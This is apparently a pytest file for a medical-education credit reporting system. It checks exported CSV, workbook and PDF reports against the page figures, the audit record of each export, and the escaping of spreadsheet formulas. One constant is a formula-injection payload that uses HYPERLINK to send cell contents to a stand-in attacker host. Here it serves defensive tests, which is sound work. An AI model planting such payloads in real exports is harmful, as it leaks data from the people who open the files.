"""Files read back by other programs say what the page says; who took them is on record; nothing in them is executed."""

import csv
import datetime as dt
import json
from collections.abc import Iterable
from decimal import Decimal
from io import BytesIO, StringIO
from typing import Any

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from credence.accounts.models import Profile
from credence.audit.models import Event
from credence.kit.sheets import as_text, harmless
from credence.reporting.actions.taking import take
from credence.reporting.documents import pdf
from credence.reporting.documents.pdf import TooLong, rendered
from credence.reporting.documents.tables import all_tables, learners
from credence.reporting.enums import Form
from credence.reporting.queries.report import Report
from tests.archivable import faults
from tests.factories.reporting import make_report
from tests.reporting.worked import NOW, Worked

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def the_report(worked: Worked, year: str = "all", course: str = "") -> Report:
    return make_report(worked.riverside, course=course, year=year, now=NOW)


def bytes_of(content: Iterable[bytes] | Any) -> bytes:
    if hasattr(content, "read"):
        with content:
            return bytes(content.read())
    return b"".join(content)


def taken(report: Report, form: Form) -> bytes:
    return bytes_of(take(report, form, by="dana", why="", now=NOW).content)


def rows_of(report: Report, form: Form) -> list[dict[str, str]]:
    return list(csv.DictReader(StringIO(taken(report, form).decode("utf-8-sig"))))


def sheets(report: Report) -> dict[str, list[tuple[Any, ...]]]:
    book = load_workbook(BytesIO(taken(report, Form.WORKBOOK)))
    return {sheet.title: [tuple(cell.value for cell in row) for row in sheet.iter_rows()] for sheet in book}


def test_the_list_of_learners_adds_up_to_the_figures_of_the_page(worked: Worked) -> None:
    report = the_report(worked)
    rows = rows_of(report, Form.LEARNERS)
    amounts = [Decimal(row["AMA PRA Category 1 Credit™: amount"] or 0) for row in rows]
    assert len(rows) == report.took_part.total == 10
    assert (sum(amounts), sum(amount > 0 for amount in amounts)) == (report.sums[0].amount, report.sums[0].awards)
    assert sum(row["Counted as"] == "Physician" for row in rows) == report.took_part.physicians
    assert sum(bool(row["Completed on"]) for row in rows) == report.completed.total


def test_a_line_of_the_list_says_all_there_is_to_say(worked: Worked) -> None:
    pk = worked.alice.learner_id
    assert rows_of(the_report(worked, "2025"), Form.LEARNERS) == [
        {
            "Course": "Contrast reactions",
            "Name": "Alice Example",
            "Family name": "Example",
            "Given name": "Alice",
            "Professions": "Physician (MD, DO or equivalent)",
            "Counted as": "Physician",
            "Took part on": "2025-12-31",
            "Completed on": "2025-12-31",
            "AMA PRA Category 1 Credit™: amount": "1.25",
            "AMA PRA Category 1 Credit™: completed on": "2025-12-31",
            "AMA PRA Category 1 Credit™: withdrawn on": "",
            "Certificate of participation: amount": "",
            "Certificate of participation: completed on": "",
            "Certificate of participation: withdrawn on": "",
            "NPI (National Provider Identifier)": f"12345678{pk:02}",
            "State license": f"MA L{pk}",
            "Birth month": "4",
            "Birth day": "15",
            "Since the award": "",
        }
    ]


def test_withdrawn_credit_is_in_the_list_and_not_in_its_sum(worked: Worked) -> None:
    (dee,) = (row for row in rows_of(the_report(worked), Form.LEARNERS) if row["Given name"] == "Dee")
    assert [dee[f"AMA PRA Category 1 Credit™: {what}"] for what in ("amount", "completed on", "withdrawn on")] == [
        "",
        "2026-06-15",
        "2026-06-16",
    ]


def test_the_list_of_courses_says_what_the_activity_report_asks_for(worked: Worked) -> None:
    (row,) = rows_of(the_report(worked, "2026"), Form.COURSES)
    assert row == {
        "Course": "Contrast reactions",
        "Format": "enduring material",
        "Released on": "2025-12-01",
        "Expires on": "2028-12-31",
        "Provided": "Directly",
        "Joint provider": "",
        "Took part: physicians": "5",
        "Took part: others": "3",
        "Took part, cumulative: physicians": "6",
        "Took part, cumulative: others": "3",
        "Completed: physicians": "3",
        "Completed: others": "2",
        "Completed, cumulative: physicians": "4",
        "Completed, cumulative: others": "2",
        "Commercial support": "Yes",
        "AMA PRA Category 1 Credit™: awards": "3",
        "AMA PRA Category 1 Credit™: amount": "3.75",
        "Certificate of participation: awards": "2",
        "Certificate of participation: amount": "3.00",
    }


def test_no_file_holds_an_address_of_anybody(worked: Worked) -> None:
    report = the_report(worked)
    files = [taken(report, Form.LEARNERS).decode(), repr(sheets(report)), text_of_pdf(rendered(report))]
    for file in files:
        assert "@" not in file
        assert "Boston" not in file


def test_a_workbook_read_back_equals_the_tables(worked: Worked) -> None:
    report = the_report(worked)
    found = sheets(report)
    assert list(found) == [
        *("Report", "By year", "Credit by type", "By profession", "Courses", "Commercial support", "Learners")
    ]
    for table in all_tables(report):
        written = [table.headings, *(tuple(_as_read(cell) for cell in row) for row in table.rows)]
        assert found[table.title] == written


def _as_read(cell: Any) -> Any:
    """Return a cell as openpyxl reads it back."""
    if isinstance(cell, dt.date):
        return dt.datetime(cell.year, cell.month, cell.day)  # noqa: DTZ001 - a workbook knows no zones
    if isinstance(cell, Decimal):
        return int(cell) if cell == cell.to_integral() else float(cell)
    return None if cell == "" else cell


def test_support_is_in_the_workbook_with_its_amount(worked: Worked) -> None:
    agreed_on = _as_read(dt.date(2025, 12, 1))
    assert sheets(the_report(worked))["Commercial support"][1:] == [
        ("Acme", "Contrast reactions", "Educational grant", None, 5000, "USD", agreed_on),
        ("Borealis", "Contrast reactions", "In-kind support", "Loan of a scanner", None, None, agreed_on),
    ]


def text_of_pdf(pdf: bytes) -> str:
    return " ".join(" ".join(page.extract_text() for page in PdfReader(BytesIO(pdf)).pages).split())


def test_a_document_says_the_figures_and_carries_the_tables_as_data(worked: Worked) -> None:
    report = the_report(worked)
    pdf = taken(report, Form.DOCUMENT)
    text = text_of_pdf(pdf)
    for words in ("Alice Example", "Riverside Medical Center", "Feb 29, 2028", "withdrawn on Jun 16, 2026", "5,000.00"):
        assert words in text
    assert "Name no longer kept" in text
    attached = json.loads(PdfReader(BytesIO(pdf)).attachments["report.json"][0])
    assert {key: attached[key]["rows"] for key in ("years", "learners")} == {
        table.key: [[as_text(cell, "UTC") for cell in row] for row in table.rows]
        for table in all_tables(report)
        if table.key in {"years", "learners"}
    }


def test_the_same_report_of_the_same_moment_is_the_same_document(worked: Worked) -> None:
    assert rendered(the_report(worked)) == rendered(the_report(worked))


@pytest.mark.parametrize(("zone", "width"), [("America/New_York", 792), ("Europe/London", 842)])
def test_a_document_has_the_paper_of_its_part_of_the_world(worked: Worked, zone: str, width: int) -> None:
    worked.riverside.time_zone = zone
    assert round(PdfReader(BytesIO(rendered(the_report(worked)))).pages[0].mediabox.width) == width


def test_a_document_is_tagged_and_says_what_it_is(worked: Worked) -> None:
    root = PdfReader(BytesIO(rendered(the_report(worked)))).trailer["/Root"]
    assert root["/MarkInfo"]["/Marked"]
    assert root["/Lang"] == "en-US"


@pytest.mark.parametrize("zone", ["America/New_York", "Europe/London"])
def test_a_document_is_archivable_whatever_people_are_called(worked: Worked, zone: str) -> None:
    worked.riverside.time_zone, worked.riverside.name = zone, "สถาบัน \U00013000 " + "W" * 150
    assert faults(rendered(the_report(worked))) == []
    assert faults(rendered(the_report(worked, "2027"))) == []


def test_a_report_on_nobody_is_written_in_every_form(worked: Worked) -> None:
    report = the_report(worked, "2027")
    assert list(report.listed) == []
    assert "Nobody took part in this period." in text_of_pdf(taken(report, Form.DOCUMENT))
    assert rows_of(report, Form.LEARNERS) == []
    assert sheets(report)["Learners"] == [learners(report).headings]


def test_a_document_that_would_be_too_long_is_refused_and_nothing_is_on_record(
    worked: Worked, monkeypatch: pytest.MonkeyPatch
) -> None:
    report = the_report(worked)
    monkeypatch.setattr(pdf, "LONGEST", 10)
    assert taken(report, Form.DOCUMENT)
    monkeypatch.setattr(pdf, "LONGEST", 9)
    with pytest.raises(TooLong) as refusal:
        take(report, Form.DOCUMENT, by="dana", why="", now=NOW)
    assert refusal.value.data == {"learners": 10, "most": 9}
    assert Event.objects.filter(action="report.taken").count() == 1


def test_who_took_what_and_why_is_on_record(worked: Worked) -> None:
    take(the_report(worked, "2026", "contrast-reactions"), Form.LEARNERS, by="dana", why=" Yearly report ", now=NOW)
    event = Event.objects.get(action="report.taken")
    assert (event.actor, event.subject_type, event.subject_id, event.reason, event.at) == (
        *("dana", "provider", "riverside"),
        "Yearly report",
        NOW,
    )
    assert event.details == {
        "form": "learners",
        "course": "contrast-reactions",
        "first": "2026-01-01",
        "last": "2026-12-31",
        "learners": 8,
    }


def test_the_list_of_courses_takes_no_learner_along(worked: Worked) -> None:
    take(the_report(worked), Form.COURSES, by="dana", why="", now=NOW)
    assert Event.objects.get(action="report.taken").details["learners"] == 0


@pytest.mark.parametrize(
    ("form", "name"),
    [
        (Form.LEARNERS, "riverside-all-courses-2026-learners.csv"),
        (Form.COURSES, "riverside-all-courses-2026-courses.csv"),
        (Form.WORKBOOK, "riverside-all-courses-2026-report.xlsx"),
        (Form.DOCUMENT, "riverside-all-courses-2026-report.pdf"),
    ],
)
def test_a_file_is_named_for_what_is_in_it(worked: Worked, form: Form, name: str) -> None:
    file = take(the_report(worked, "2026"), form, by="dana", why="", now=NOW)
    bytes_of(file.content)
    assert file.name == name


@pytest.mark.parametrize("text", [FORMULA, "+1", "-2", "@SUM(A1)", "\t=1", "\r=1", "  =1", "\n=1"])
def test_text_that_a_spreadsheet_would_execute_is_made_harmless(text: str) -> None:
    assert harmless(text) == f"'{text}"
    assert harmless(f"x{text}") == f"x{text}"


def test_a_name_that_is_a_formula_stays_a_name(worked: Worked) -> None:
    Profile.objects.filter(given_name="Ida").update(family_name=FORMULA, given_name="", suffix="")
    report = the_report(worked, "2026")
    (row,) = (each for each in rows_of(report, Form.LEARNERS) if "HYPERLINK" in each["Name"])
    assert (row["Name"], row["Family name"]) == (f"'{FORMULA}", f"'{FORMULA}")
    book = load_workbook(BytesIO(taken(report, Form.WORKBOOK)))
    cells = [cell for line in book["Learners"].iter_rows() for cell in line if FORMULA in str(cell.value)]
    assert [(cell.value, cell.data_type, cell.quotePrefix) for cell in cells] == [(FORMULA, "s", True)] * 2


def test_characters_that_no_workbook_holds_are_left_out(worked: Worked) -> None:
    Profile.objects.filter(given_name="Ida").update(family_name="Bell\x07\x0b", given_name="Ida")
    assert any("Ida Bell" in row for row in sheets(the_report(worked))["Learners"])
